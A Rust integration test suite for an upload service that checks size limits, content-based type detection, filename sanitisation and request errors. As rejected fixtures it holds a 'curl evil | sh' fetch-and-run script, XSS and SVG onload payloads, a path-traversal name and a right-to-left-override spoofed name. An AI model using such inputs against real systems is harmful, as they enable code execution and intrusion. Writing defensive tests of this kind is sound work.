//! Direct multipart uploads into the emulator's S3: every size and type limit, spoofed names
//! and declared types, sanitised names, request-level problems.

use hub_tests::{TestHub, get, send};
use shared::auth::Role;

use crate::support::*;

async fn s3_object(hub: &TestHub, key: &str) -> Option<Vec<u8>> {
    let bucket = std::env::var("UPLOADS_BUCKET").unwrap();
    match hub
        .ctx
        .aws
        .s3()
        .get_object()
        .bucket(bucket)
        .key(key)
        .send()
        .await
    {
        Ok(out) => Some(out.body.collect().await.unwrap().into_bytes().to_vec()),
        Err(_) => None,
    }
}

async fn storage_key(hub: &TestHub, id: &str) -> String {
    hub.ctx
        .aws
        .dynamo
        .get_item()
        .table_name(&hub.ctx.config.hub_table)
        .key(
            "pk",
            aws_sdk_dynamodb::types::AttributeValue::S(format!("FILE#{id}")),
        )
        .key(
            "sk",
            aws_sdk_dynamodb::types::AttributeValue::S("FILE".into()),
        )
        .send()
        .await
        .unwrap()
        .item
        .expect("file record")["storage_key"]
        .as_s()
        .unwrap()
        .clone()
}

#[tokio::test]
async fn avatar_accepts_png_jpeg_and_webp_and_records_them() {
    let hub = TestHub::new().await;
    let (svc, _) = service(&hub);
    let token = hub.token("ava-user", Role::User);
    for (name, ct, data, w, h, stored_ct) in [
        ("me.png", "image/png", png(64, 48), 64, 48, "image/png"),
        (
            "me.jpg",
            "image/jpeg",
            jpeg(640, 480),
            640,
            480,
            "image/jpeg",
        ),
        (
            "me.webp",
            "image/webp",
            webp(300, 200),
            300,
            200,
            "image/webp",
        ),
    ] {
        let res = send(
            &svc,
            upload("/api/v1/upload/avatar", &token, &[file(name, ct, &data)]),
        )
        .await;
        assert_eq!(
            res.status,
            201,
            "{name}: {}",
            String::from_utf8_lossy(&res.body)
        );
        let v = res.json();
        assert_eq!(v["content_type"], stored_ct);
        assert_eq!(v["kind"], "avatar");
        assert_eq!(v["owner"], "ava-user");
        assert_eq!(v["status"], "uploaded");
        assert_eq!(v["storage"], "s3");
        assert_eq!(
            (v["width"].as_u64().unwrap(), v["height"].as_u64().unwrap()),
            (w, h)
        );
        assert_eq!(v["size"], data.len());
        assert_eq!(v["sha256"], sha256_hex(&data));
        assert!(
            v["download_url"]
                .as_str()
                .unwrap()
                .contains("X-Amz-Signature"),
            "{v}"
        );
        // One unit of the hourly upload limit per file.
        assert!(res.headers.contains_key("ratelimit-remaining"));
        // Key by kind, user and date; the object holds the bytes.
        let key = storage_key(&hub, v["id"].as_str().unwrap()).await;
        let today = time::OffsetDateTime::now_utc();
        let prefix = format!(
            "avatar/ava-user/{:04}/{:02}/{:02}/{}-",
            today.year(),
            today.month() as u8,
            today.day(),
            v["id"].as_str().unwrap()
        );
        assert!(key.starts_with(&prefix), "{key} vs {prefix}");
        assert_eq!(s3_object(&hub, &key).await.unwrap(), data);
    }
}

#[tokio::test]
async fn avatar_size_limit_is_five_mib() {
    let hub = TestHub::new().await;
    let (svc, _) = service(&hub);
    let token = hub.token("big-avatar", Role::User);
    let exact = png_padded(16, 16, 5 * MIB);
    let res = send(
        &svc,
        upload(
            "/api/v1/upload/avatar",
            &token,
            &[file("a.png", "image/png", &exact)],
        ),
    )
    .await;
    assert_eq!(res.status, 201, "{}", String::from_utf8_lossy(&res.body));
    let over = png_padded(16, 16, 5 * MIB + 1);
    let p = send(
        &svc,
        upload(
            "/api/v1/upload/avatar",
            &token,
            &[file("a.png", "image/png", &over)],
        ),
    )
    .await
    .assert_problem(413, "file_too_large");
    assert!(p["detail"].as_str().unwrap().contains("5 MiB"), "{p}");
}

#[tokio::test]
async fn attachment_size_limit_is_ten_mib_and_the_body_is_capped() {
    let hub = TestHub::new().await;
    let (svc, state) = service(&hub);
    let token = hub.token("big-attachment", Role::User);
    let mut exact = pdf();
    exact.resize(10 * MIB, b' ');
    let res = send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[file("big.pdf", "application/pdf", &exact)],
        ),
    )
    .await;
    assert_eq!(res.status, 201, "{}", String::from_utf8_lossy(&res.body));
    assert_eq!(res.json()["size"], 10 * MIB);
    exact.push(b' ');
    send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[file("big.pdf", "application/pdf", &exact)],
        ),
    )
    .await
    .assert_problem(413, "file_too_large");
    // Beyond the request body limit (largest file + 1 MiB) the body is not read at all.
    let huge = vec![b'a'; state.request_body_limit() + 10];
    let p = send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[file("huge.txt", "text/plain", &huge)],
        ),
    )
    .await
    .assert_problem(413, "payload_too_large");
    assert!(p["detail"].as_str().unwrap().contains("presign"), "{p}");
}

#[tokio::test]
async fn avatar_refuses_other_types_and_broken_images() {
    let hub = TestHub::new().await;
    let (svc, _) = service(&hub);
    let token = hub.token("picky", Role::User);
    let gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;".to_vec();
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>"#.to_vec();
    for (name, ct, data) in [
        ("a.pdf", "application/pdf", pdf()),
        ("a.gif", "image/gif", gif),
        ("a.svg", "image/svg+xml", svg),
    ] {
        let p = send(
            &svc,
            upload("/api/v1/upload/avatar", &token, &[file(name, ct, &data)]),
        )
        .await
        .assert_problem(415, "unsupported_file_type");
        assert!(
            p["detail"].as_str().unwrap().contains("JPEG, PNG or WebP"),
            "{p}"
        );
    }
    // A PNG cut short: header fine, no IEND.
    let full = png(32, 32);
    let truncated = &full[..full.len() - 20];
    send(
        &svc,
        upload(
            "/api/v1/upload/avatar",
            &token,
            &[file("cut.png", "image/png", truncated)],
        ),
    )
    .await
    .assert_problem(422, "invalid_image");
    // JPEG magic followed by garbage: no frame header to read.
    let junk = [0xFF, 0xD8, 0xFF, 0x00, 0x01, 0x02, 0x03, 0xFF, 0xD9];
    send(
        &svc,
        upload(
            "/api/v1/upload/avatar",
            &token,
            &[file("junk.jpg", "image/jpeg", &junk)],
        ),
    )
    .await
    .assert_problem(422, "invalid_image");
    // Dimensions: 4096 a side passes, 4097 does not (header-only, so no pixels are decoded).
    let wide_ok = png(4096, 1);
    let res = send(
        &svc,
        upload(
            "/api/v1/upload/avatar",
            &token,
            &[file("w.png", "image/png", &wide_ok)],
        ),
    )
    .await;
    assert_eq!(res.status, 201);
    let wide = png(4097, 1);
    let p = send(
        &svc,
        upload(
            "/api/v1/upload/avatar",
            &token,
            &[file("w.png", "image/png", &wide)],
        ),
    )
    .await
    .assert_problem(422, "image_dimensions");
    assert!(p["detail"].as_str().unwrap().contains("4097x1"), "{p}");
    let tall = jpeg(10, 9000);
    send(
        &svc,
        upload(
            "/api/v1/upload/avatar",
            &token,
            &[file("t.jpg", "image/jpeg", &tall)],
        ),
    )
    .await
    .assert_problem(422, "image_dimensions");
    send(
        &svc,
        upload(
            "/api/v1/upload/avatar",
            &token,
            &[file("empty.png", "image/png", &[])],
        ),
    )
    .await
    .assert_problem(422, "empty_file");
}

#[tokio::test]
async fn type_comes_from_the_content_not_the_name_or_declared_type() {
    let hub = TestHub::new().await;
    let (svc, _) = service(&hub);
    let token = hub.token("spoofer", Role::User);
    // A PNG named .pdf and declared application/pdf is stored as the PNG it is.
    let data = png(8, 8);
    let res = send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[file("scan.pdf", "application/pdf", &data)],
        ),
    )
    .await;
    assert_eq!(res.status, 201);
    let v = res.json();
    assert_eq!(v["content_type"], "image/png");
    assert_eq!(v["filename"], "scan.png");
    let key = storage_key(&hub, v["id"].as_str().unwrap()).await;
    assert!(key.ends_with("-scan.png"), "{key}");
    // A PDF declared as an image is a PDF.
    let res = send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[file("photo.jpg", "image/jpeg", &pdf())],
        ),
    )
    .await;
    assert_eq!(res.json()["content_type"], "application/pdf");
    assert_eq!(res.json()["filename"], "photo.pdf");
    // Executables under innocent names and types are refused, as attachments and avatars.
    for (name, ct, data) in [
        ("photo.jpg", "image/jpeg", elf()),
        ("invoice.pdf", "application/pdf", pe()),
        ("notes.txt", "text/plain", mach_o()),
        (
            "readme.txt",
            "text/plain",
            b"#!/bin/sh\ncurl evil | sh\n".to_vec(),
        ),
    ] {
        let p = send(
            &svc,
            upload(
                "/api/v1/upload/attachment",
                &token,
                &[file(name, ct, &data)],
            ),
        )
        .await
        .assert_problem(415, "executable_not_allowed");
        assert!(
            p["detail"].as_str().unwrap().contains("executable"),
            "{name}: {p}"
        );
    }
    send(
        &svc,
        upload(
            "/api/v1/upload/avatar",
            &token,
            &[file("photo.jpg", "image/jpeg", &elf())],
        ),
    )
    .await
    .assert_problem(415, "unsupported_file_type");
    // Active content: HTML (under any name) and SVG carrying script.
    for (name, data) in [
        ("notes.txt", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>".to_vec()),
        ("page.doc", b"  <html><body onload=\"steal()\">hi</body></html>".to_vec()),
        ("logo.svg", br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>"#.to_vec()),
        ("logo.svg", br#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#.to_vec()),
    ] {
        send(&svc, upload("/api/v1/upload/attachment", &token, &[file(name, "text/plain", &data)]))
            .await
            .assert_problem(415, "active_content_not_allowed");
    }
    // A plain SVG and plain text are fine.
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>"#;
    let res = send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[file("dot.svg", "image/svg+xml", svg)],
        ),
    )
    .await;
    assert_eq!(res.json()["content_type"], "image/svg+xml");
    let res = send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[file("data.csv", "text/csv", b"a,b\n1,2\n")],
        ),
    )
    .await;
    assert_eq!(res.status, 201);
    assert_eq!(res.json()["content_type"], "text/plain");
    assert_eq!(res.json()["filename"], "data.csv");
}

#[tokio::test]
async fn executables_html_and_type_lists_are_configurable() {
    let hub = TestHub::with_env(&[
        ("UPLOAD_ALLOW_EXECUTABLES", "true".into()),
        ("UPLOAD_ALLOW_HTML", "true".into()),
    ])
    .await;
    let (svc, _) = service(&hub);
    let token = hub.token("permissive", Role::User);
    let res = send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[file("tool", "application/octet-stream", &elf())],
        ),
    )
    .await;
    assert_eq!(res.status, 201);
    assert_eq!(res.json()["content_type"], "application/x-executable");
    let res = send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[file(
                "p.html",
                "text/html",
                b"<html><script>x()</script></html>",
            )],
        ),
    )
    .await;
    assert_eq!(res.status, 201);
    assert_eq!(res.json()["content_type"], "text/html");

    let hub =
        TestHub::with_env(&[("UPLOAD_ATTACHMENT_TYPES", "application/pdf, image/*".into())]).await;
    let (svc, _) = service(&hub);
    let token = hub.token("strict", Role::User);
    assert_eq!(
        send(
            &svc,
            upload(
                "/api/v1/upload/attachment",
                &token,
                &[file("a.pdf", "application/pdf", &pdf())]
            )
        )
        .await
        .status,
        201
    );
    assert_eq!(
        send(
            &svc,
            upload(
                "/api/v1/upload/attachment",
                &token,
                &[file("a.png", "image/png", &png(2, 2))]
            )
        )
        .await
        .status,
        201
    );
    let p = send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[file("a.txt", "application/pdf", b"just text")],
        ),
    )
    .await
    .assert_problem(415, "unsupported_file_type");
    assert!(p["detail"].as_str().unwrap().contains("text/plain"), "{p}");
}

#[tokio::test]
async fn file_names_are_sanitised() {
    let hub = TestHub::new().await;
    let (svc, _) = service(&hub);
    let token = hub.token("names", Role::User);
    let long = format!("{}.pdf", "n".repeat(400));
    for (raw, expected) in [
        // (A raw control byte in a part header is itself a malformed body, 400; tab is legal there.)
        ("../../etc/pass\twd.pdf", "passwd.pdf".to_string()),
        (
            "C:\\Users\\me\\relatório <final>*.pdf",
            "relatório final.pdf".to_string(),
        ),
        (
            "invoice\u{202E}fdp.exe.pdf",
            "invoicefdp.exe.pdf".to_string(),
        ),
        ("..", "file.pdf".to_string()),
        (long.as_str(), format!("{}.pdf", "n".repeat(116))),
    ] {
        let res = send(
            &svc,
            upload(
                "/api/v1/upload/attachment",
                &token,
                &[file(raw, "application/pdf", &pdf())],
            ),
        )
        .await;
        assert_eq!(res.status, 201, "{raw}");
        let v = res.json();
        assert_eq!(v["filename"], expected.as_str(), "{raw}");
        let key = storage_key(&hub, v["id"].as_str().unwrap()).await;
        assert!(
            !key.contains("..") && !key.contains('\\') && key.is_ascii(),
            "{key}"
        );
        assert_eq!(key.split('/').count(), 6, "{key}");
    }
}

#[tokio::test]
async fn request_problems_are_4xx() {
    let hub = TestHub::new().await;
    let (svc, _) = service(&hub);
    let token = hub.token("sloppy", Role::User);
    // No `file` part (only another field).
    let p = send(
        &svc,
        upload(
            "/api/v1/upload/avatar",
            &token,
            &[Part {
                name: "caption",
                filename: None,
                content_type: "text/plain",
                data: b"hi",
            }],
        ),
    )
    .await
    .assert_problem(400, "missing_file");
    assert_eq!(p["errors"][0]["field"], "file");
    // Not multipart at all.
    send(
        &svc,
        hub_tests::json_req(
            "POST",
            "/api/v1/upload/attachment",
            Some(&token),
            &serde_json::json!({"file": "x"}),
        ),
    )
    .await
    .assert_problem(415, "unsupported_media_type");
    // Two files on a single-file route.
    send(
        &svc,
        upload(
            "/api/v1/upload/attachment",
            &token,
            &[
                file("a.pdf", "application/pdf", &pdf()),
                file("b.pdf", "application/pdf", &pdf()),
            ],
        ),
    )
    .await
    .assert_problem(400, "too_many_files");
    // A body that ends mid-part.
    let mut body = multipart_body(&[file("a.pdf", "application/pdf", &pdf())]);
    body.truncate(body.len() - 30);
    let req = hub_tests::req("POST", "/api/v1/upload/attachment", Some(&token))
        .header(
            "content-type",
            "multipart/form-data; boundary=----hub-test-boundary-7f3a",
        )
        .body(axum::body::Body::from(body))
        .unwrap();
    send(&svc, req)
        .await
        .assert_problem(400, "malformed_multipart");
    // No token.
    send(
        &svc,
        hub_tests::req("POST", "/api/v1/upload/avatar", None)
            .body(axum::body::Body::empty())
            .unwrap(),
    )
    .await
    .assert_problem(401, "missing_token");
    // The seed's trailing-slash path works too.
    let res = send(
        &svc,
        upload(
            "/api/v1/upload/attachment/",
            &token,
            &[file("a.pdf", "application/pdf", &pdf())],
        ),
    )
    .await;
    assert_eq!(res.status, 201);
    send(&svc, get("/api/v1/files/not-a-file", Some(&token)))
        .await
        .assert_problem(404, "not_found");
}
